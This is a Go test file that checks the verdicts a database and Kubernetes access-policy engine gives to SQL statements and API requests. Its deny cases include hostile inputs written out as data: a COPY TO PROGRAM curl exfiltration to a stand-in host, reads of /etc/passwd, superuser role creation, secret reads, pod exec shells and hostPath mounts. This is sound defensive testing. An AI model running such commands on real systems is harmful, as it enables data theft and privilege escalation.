package dev

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"sluice.dev/sluice/libs/approvalstate"
	"sluice.dev/sluice/libs/config"
	engine "sluice.dev/sluice/libs/policy"
	approvalsv1 "sluice.dev/sluice/proto/sluice/approvals/v1"
	commonv1 "sluice.dev/sluice/proto/sluice/common/v1"
	policyv1 "sluice.dev/sluice/proto/sluice/policy/v1"
	"sluice.dev/sluice/services/policy"
)

// TestDefaultPolicyVerdicts checks the verdicts the README documents for the
// default development policy.
func TestDefaultPolicyVerdicts(t *testing.T) {
	f, err := config.Parse(DefaultConfig())
	require.NoError(t, err)
	set, err := engine.Compile(f.RuleProtos(), 1)
	require.NoError(t, err)

	engineer := &commonv1.Principal{Subject: "alice", Groups: []string{"engineers"}}
	machine := &commonv1.Principal{Subject: "ci-bot", Groups: []string{"engineers"}, Machine: true}
	stranger := &commonv1.Principal{Subject: "eve", Groups: []string{"marketing"}}
	tests := []struct {
		who  *commonv1.Principal
		sql  string
		want string
		rule string
	}{
		// deny for everyone
		{engineer, "COPY customers TO PROGRAM 'curl -d @- evil.example'", "deny", "deny-file-and-program-access"},
		{engineer, "COPY customers TO '/tmp/x.csv'", "deny", "deny-file-and-program-access"},
		{engineer, "SELECT pg_read_file('/etc/passwd')", "deny", "deny-file-and-program-access"},
		{engineer, "SELECT lo_import('/etc/passwd')", "deny", "deny-file-and-program-access"},
		{engineer, "SELECT lo_export(1234, '/tmp/x')", "deny", "deny-file-and-program-access"},
		{engineer, "SET ROLE postgres", "deny", "deny-role-changes"},
		{engineer, "SET SESSION AUTHORIZATION postgres", "deny", "deny-role-changes"},
		{engineer, "SELECT set_config('role', 'postgres', false)", "deny", "deny-role-changes"},
		{engineer, "CREATE ROLE mallory SUPERUSER", "deny", "deny-role-changes"},
		{engineer, "GRANT ALL ON customers TO PUBLIC", "deny", "deny-role-changes"},
		{engineer, "REVOKE SELECT ON customers FROM alice", "deny", "deny-role-changes"},
		{engineer, "ALTER SYSTEM SET log_statement = 'none'", "deny", "deny-server-configuration"},
		{engineer, "CREATE EXTENSION dblink", "deny", "deny-extensions"},
		{engineer, "CREATE LANGUAGE plpython3u", "deny", "deny-extensions"},
		{engineer, "LOAD 'evil.so'", "deny", "deny-file-and-program-access"},
		{engineer, "DROP DATABASE demo", "deny", "deny-drop-database"},
		{engineer, "SELECT pg_terminate_backend(1234)", "deny", "deny-backend-signals"},
		{engineer, "SELECT pg_cancel_backend(1234)", "deny", "deny-backend-signals"},
		{engineer, "SET standard_conforming_strings = off", "deny", "deny-lexer-settings"},
		{engineer, "SET client_encoding = 'SJIS'", "deny", "deny-lexer-settings"},
		{engineer, "SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "deny", "deny-replication"},
		{engineer, "SELEC * FROM customers", "deny", policy.RuleUnparseable},
		{engineer, "START_REPLICATION SLOT s LOGICAL 0/0", "deny", policy.RuleUnparseable},
		{engineer, "SELECT 1; SET ROLE postgres", "deny", "deny-role-changes"},
		// review
		{engineer, "CREATE TABLE t (id int)", "review", "review-ddl"},
		{engineer, "ALTER TABLE customers ADD COLUMN x int", "review", "review-ddl"},
		{engineer, "DROP TABLE orders", "review", "review-ddl"},
		{engineer, "TRUNCATE orders", "review", "review-ddl"},
		{engineer, "SELECT * INTO stolen FROM customers", "review", "review-ddl"},
		{engineer, "DELETE FROM customers", "review", "review-unbounded-writes"},
		{engineer, "UPDATE customers SET email = 'x' WHERE true", "review", "review-unbounded-writes"},
		{engineer, "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d", "review", "review-unbounded-writes"},
		{engineer, "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END $$", "review", "review-dynamic-sql"},
		{engineer, "SELECT * FROM query_to_xml('select * from customers', true, true, '')", "review", "review-dynamic-sql"},
		{machine, "INSERT INTO orders (customer_id, amount, status) VALUES (1, 10, 'paid')", "review", "review-machine-writes"},
		{machine, "UPDATE orders SET status = 'x' WHERE id = 1", "review", "review-machine-writes"},
		{machine, "SELECT nextval('orders_id_seq')", "review", "review-machine-writes"},
		// allow
		{engineer, "SELECT * FROM customers WHERE id = 1", "allow", "allow-engineer-reads"},
		{machine, "SELECT count(*) FROM orders", "allow", "allow-engineer-reads"},
		{engineer, "BEGIN", "allow", "allow-engineer-reads"},
		{engineer, "COMMIT", "allow", "allow-engineer-reads"},
		{engineer, "EXPLAIN SELECT * FROM orders", "allow", "allow-engineer-reads"},
		{engineer, "SET statement_timeout = '5s'", "allow", "allow-engineer-session"},
		{engineer, "UPDATE orders SET status = 'shipped' WHERE id = 7", "allow", "allow-human-engineer-writes"},
		{engineer, "INSERT INTO orders (customer_id, amount, status) VALUES (1, 10, 'paid')", "allow", "allow-human-engineer-writes"},
		{engineer, "DELETE FROM orders WHERE id = 7", "allow", "allow-human-engineer-writes"},
		// everyday tools: temporary objects, maintenance, plans
		{engineer, "CREATE TEMP TABLE scratch (id int)", "allow", "allow-engineer-temporary-objects"},
		{engineer, "CREATE TEMPORARY TABLE ids AS SELECT id FROM orders", "allow", "allow-engineer-temporary-objects"},
		{engineer, "SELECT id INTO TEMP ids FROM orders", "allow", "allow-engineer-temporary-objects"},
		{engineer, "DROP TABLE pg_temp.scratch", "allow", "allow-engineer-temporary-objects"},
		{machine, "CREATE TEMP TABLE scratch (id int)", "allow", "allow-engineer-temporary-objects"},
		{machine, "CREATE TEMP TABLE scratch AS SELECT nextval('orders_id_seq')", "review", "review-machine-writes"},
		{engineer, "VACUUM orders", "allow", "allow-engineer-maintenance"},
		{engineer, "VACUUM ANALYZE orders", "allow", "allow-engineer-maintenance"},
		{engineer, "ANALYZE orders", "allow", "allow-engineer-maintenance"},
		{engineer, "EXPLAIN (COSTS OFF) DELETE FROM orders", "allow", "allow-engineer-reads"},
		{engineer, "EXPLAIN ANALYZE DELETE FROM orders", "review", "review-unbounded-writes"},
		{machine, "VACUUM orders", "review", "review-machine-writes"},
		// no match: deny
		{stranger, "SELECT 1", "deny", engine.NoMatch},
		{engineer, "VACUUM FULL orders", "deny", engine.NoMatch},
		{stranger, "CREATE TEMP TABLE scratch (id int)", "deny", engine.NoMatch},
	}
	ctx := context.Background()
	for _, tc := range tests {
		t.Run(tc.sql, func(t *testing.T) {
			req := &policyv1.EvaluateRequest{Principal: tc.who, Target: &commonv1.Target{Name: "demo"}, Command: &policyv1.EvaluateRequest_Sql{Sql: &policyv1.SQLCommand{Text: tc.sql}}}
			d := policy.Evaluate(ctx, set, &commonv1.Target{Name: "demo", Kind: "postgres"}, req, time.Now())
			assert.Equal(t, tc.want, d.Action, d.Reason)
			assert.Equal(t, tc.rule, d.Rule, d.Reason)
			if tc.want == "review" {
				assert.Equal(t, []string{"approvers"}, d.Approvers)
			}
		})
	}

	// A development target (env: dev): human engineers change schemas
	// without review (fixtures, migrations under test); a missing WHERE is
	// still held; machines are still held.
	dev := &commonv1.Target{Name: "demo", Kind: "postgres", Labels: map[string]string{"env": "dev"}}
	for _, tc := range []struct {
		who        *commonv1.Principal
		sql        string
		want, rule string
	}{
		{engineer, "CREATE TABLE pgbench_history (tid int, bid int, aid int, delta int, mtime timestamp, filler char(22))", "allow", "allow-engineer-dev-schema"},
		{engineer, "DROP TABLE IF EXISTS pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers", "allow", "allow-engineer-dev-schema"},
		{engineer, "TRUNCATE pgbench_history", "allow", "allow-engineer-dev-schema"},
		{engineer, "ALTER TABLE pgbench_branches ADD PRIMARY KEY (bid)", "allow", "allow-engineer-dev-schema"},
		{engineer, "DELETE FROM customers", "review", "review-unbounded-writes"},
		{machine, "CREATE TABLE t (id int)", "review", "review-ddl"},
		{engineer, "DROP DATABASE demo", "deny", "deny-drop-database"},
		{engineer, "GRANT ALL ON customers TO PUBLIC", "deny", "deny-role-changes"},
	} {
		t.Run("dev/"+tc.sql, func(t *testing.T) {
			req := &policyv1.EvaluateRequest{Principal: tc.who, Target: &commonv1.Target{Name: "demo"}, Command: &policyv1.EvaluateRequest_Sql{Sql: &policyv1.SQLCommand{Text: tc.sql}}}
			d := policy.Evaluate(ctx, set, dev, req, time.Now())
			assert.Equal(t, tc.want, d.Action, d.Reason)
			assert.Equal(t, tc.rule, d.Rule, d.Reason)
		})
	}

	// A ddl grant (a scope approved with a held change) lifts the review of
	// schema changes, for people and machines, in its session only; the
	// decision names it for the audit record and is not shared with the
	// principal's other sessions.
	grant := &approvalsv1.Grant{Id: "g1", Subject: "alice", Target: "demo", Role: "ddl", SessionId: "s1"}
	grants := func(_, subject, target, session string, now time.Time) approvalstate.GrantSet {
		gs := approvalstate.GrantSet{Revision: 7, Next: now.Add(10 * time.Minute), Scoped: true}
		if session == "s1" {
			gs.Grants = []*approvalsv1.Grant{grant}
		}
		return gs
	}
	for _, tc := range []struct {
		who        *commonv1.Principal
		session    string
		sql        string
		want, rule string
	}{
		{engineer, "s1", "CREATE TABLE t (id int)", "allow", "allow-granted-ddl"},
		{engineer, "s1", "TRUNCATE orders", "allow", "allow-granted-ddl"},
		{engineer, "s2", "CREATE TABLE t (id int)", "review", "review-ddl"},
		{machine, "s1", "CREATE TABLE t (id int)", "allow", "allow-granted-ddl"},
		{machine, "s1", "INSERT INTO orders (customer_id, amount, status) VALUES (1, 10, 'paid')", "review", "review-machine-writes"},
		{engineer, "s1", "DELETE FROM customers", "review", "review-unbounded-writes"},
	} {
		t.Run("grant/"+tc.session+"/"+tc.sql, func(t *testing.T) {
			req := &policyv1.EvaluateRequest{Principal: tc.who, SessionId: tc.session, Target: &commonv1.Target{Name: "demo"}, Command: &policyv1.EvaluateRequest_Sql{Sql: &policyv1.SQLCommand{Text: tc.sql}}}
			d := policy.EvaluateWithGrants(ctx, set, &commonv1.Target{Name: "demo", Kind: "postgres"}, req, time.Now(), grants)
			assert.Equal(t, tc.want, d.Action, d.Reason)
			assert.Equal(t, tc.rule, d.Rule, d.Reason)
			if tc.session == "s1" {
				assert.Equal(t, []string{"g1"}, d.Grants)
			}
			assert.False(t, d.GetCache().GetCacheable(), "a decision a session's grant may change is not shared")
		})
	}

	// Masking: customer PII for everyone outside dba.
	sel := &policyv1.EvaluateRequest{Principal: engineer, Command: &policyv1.EvaluateRequest_Sql{Sql: &policyv1.SQLCommand{Text: "SELECT * FROM customers"}}}
	d := policy.Evaluate(ctx, set, &commonv1.Target{Name: "demo"}, sel, time.Now())
	require.Len(t, d.Masks, 1)
	assert.Contains(t, d.Masks[0].Columns, "customers.ssn")
	sel.Principal = &commonv1.Principal{Subject: "dora", Groups: []string{"engineers", "dba"}}
	d = policy.Evaluate(ctx, set, &commonv1.Target{Name: "demo"}, sel, time.Now())
	assert.Empty(t, d.Masks)
	assert.True(t, d.Cache.GetCacheable())
}

// TestDefaultKubernetesVerdicts checks the Kubernetes verdicts the README
// documents for the default development policy.
func TestDefaultKubernetesVerdicts(t *testing.T) {
	f, err := config.Parse(DefaultConfig())
	require.NoError(t, err)
	set, err := engine.Compile(f.RuleProtos(), 1)
	require.NoError(t, err)
	engineer := &commonv1.Principal{Subject: "alice", Groups: []string{"engineers"}}
	sre := &commonv1.Principal{Subject: "sam", Groups: []string{"sre"}}
	admin := &commonv1.Principal{Subject: "kim", Groups: []string{"k8s-admins"}}
	machine := &commonv1.Principal{Subject: "ci-bot", Groups: []string{"engineers"}, Machine: true}
	pod := func(spec string) string { return `{"kind":"Pod","metadata":{"name":"p"},"spec":` + spec + `}` }
	for _, tc := range []struct {
		who                 *commonv1.Principal
		method, path, query string
		body                string
		want, rule          string
	}{
		{engineer, "GET", "/api/v1/namespaces", "", "", "allow", "allow-k8s-engineers"},
		{engineer, "GET", "/version", "", "", "allow", "allow-k8s-engineers"},
		{engineer, "GET", "/metrics", "", "", "deny", "deny-k8s-server-paths"},
		{engineer, "GET", "/api/v1/namespaces/a/secrets/db", "", "", "deny", "deny-k8s-secret-reads"},
		{engineer, "GET", "/api/v1/namespaces/a/secrets", "watch=1", "", "deny", "deny-k8s-secret-reads"},
		{sre, "GET", "/api/v1/namespaces/a/secrets/db", "", "", "allow", "allow-k8s-engineers"},
		{engineer, "POST", "/api/v1/namespaces/a/pods/web/exec", "command=sh", "", "deny", "deny-k8s-streams-and-proxies"},
		{admin, "GET", "/api/v1/namespaces/a/pods/web/exec", "command=sh", "", "allow", "allow-k8s-engineers"},
		{engineer, "GET", "/api/v1/nodes/n1/proxy/configz", "", "", "deny", "deny-k8s-streams-and-proxies"},
		{engineer, "GET", "/api/v1/namespaces/a/pods/web/attach", "container=app&stdout=true", "", "deny", "deny-k8s-streams-and-proxies"},
		{engineer, "GET", "/api/v1/namespaces/a/pods/web/portforward", "ports=5432", "", "deny", "deny-k8s-streams-and-proxies"},
		{engineer, "GET", "/api/v1/namespaces/a/pods/web/proxy/admin", "", "", "deny", "deny-k8s-streams-and-proxies"},
		{engineer, "GET", "/api/v1/namespaces/a/services/web:80/proxy/", "", "", "deny", "deny-k8s-streams-and-proxies"},
		{engineer, "PATCH", "/api/v1/namespaces/a/pods/web/ephemeralcontainers", "", `{"spec":{"ephemeralContainers":[{"name":"debug","image":"busybox"}]}}`, "deny", "deny-k8s-streams-and-proxies"},
		{engineer, "POST", "/api/v1/namespaces/a/pods/web/exec", "command=tar&command=cf&command=-&command=/data", "", "deny", "deny-k8s-streams-and-proxies"},
		{engineer, "POST", "/apis/rbac.authorization.k8s.io/v1/namespaces/a/roles", "", `{"kind":"Role","rules":[{"verbs":["escalate","bind"],"resources":["roles"]}]}`, "deny", "deny-k8s-rbac-writes"},
		{engineer, "POST", "/apis/rbac.authorization.k8s.io/v1/clusterroles", "", `{"kind":"ClusterRole","rules":[{"verbs":["impersonate"],"resources":["users"]}]}`, "deny", "deny-k8s-rbac-writes"},
		{engineer, "DELETE", "/api/v1/namespaces/a/configmaps", "", "", "deny", "deny-k8s-bulk-deletes"},
		{engineer, "POST", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "", "", "deny", "deny-k8s-rbac-writes"},
		{engineer, "POST", "/api/v1/namespaces/a/serviceaccounts/default/token", "", "", "deny", "deny-k8s-cluster-controls"},
		{engineer, "PUT", "/apis/certificates.k8s.io/v1/certificatesigningrequests/c/approval", "", "", "deny", "deny-k8s-cluster-controls"},
		{engineer, "PATCH", "/api/v1/namespaces/a", "", `{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`, "deny", "deny-k8s-cluster-controls"},
		{engineer, "DELETE", "/api/v1/namespaces/a/configmaps/app", "", "", "review", "review-k8s-deletes"},
		{engineer, "POST", "/api/v1/namespaces/a/pods/web/eviction", "", "{}", "review", "review-k8s-deletes"},
		{engineer, "POST", "/api/v1/namespaces/a/pods", "", pod(`{"containers":[{"image":"nginx"}]}`), "allow", "allow-k8s-engineers"},
		{engineer, "POST", "/api/v1/namespaces/a/pods", "", pod(`{"volumes":[{"secret":{"secretName":"db"}}],"containers":[{"image":"x"}]}`), "review", "review-k8s-workload-secrets"},
		{engineer, "POST", "/api/v1/namespaces/a/pods", "", pod(`{"serviceAccountName":"admin","containers":[{"image":"x"}]}`), "review", "review-k8s-workload-secrets"},
		{engineer, "POST", "/api/v1/namespaces/a/pods", "", pod(`{"hostNetwork":true,"containers":[{"image":"x"}]}`), "deny", "deny-k8s-host-pods"},
		{engineer, "POST", "/apis/apps/v1/namespaces/a/deployments", "", `{"kind":"Deployment","spec":{"template":{"spec":{"volumes":[{"hostPath":{"path":"/"}}],"containers":[{"image":"x"}]}}}}`, "deny", "deny-k8s-host-pods"},
		{admin, "POST", "/api/v1/namespaces/a/pods", "", pod(`{"hostNetwork":true,"containers":[{"image":"x"}]}`), "allow", "allow-k8s-engineers"},
		{machine, "POST", "/api/v1/namespaces/a/configmaps", "", `{"kind":"ConfigMap"}`, "review", "review-k8s-machine-writes"},
	} {
		t.Run(tc.method+" "+tc.path+"?"+tc.query, func(t *testing.T) {
			cmd := &policyv1.K8SCommand{Method: tc.method, Path: tc.path, Query: tc.query}
			if tc.body != "" {
				cmd.Body, cmd.ContentType = []byte(tc.body), "application/json"
			}
			req := &policyv1.EvaluateRequest{Principal: tc.who, Target: &commonv1.Target{Name: "demo-k8s"}, Command: &policyv1.EvaluateRequest_K8S{K8S: cmd}}
			d := policy.Evaluate(context.Background(), set, &commonv1.Target{Name: "demo-k8s", Kind: "kubernetes"}, req, time.Now())
			assert.Equal(t, tc.want, d.Action, d.Reason)
			assert.Equal(t, tc.rule, d.Rule, d.Reason)
		})
	}
}
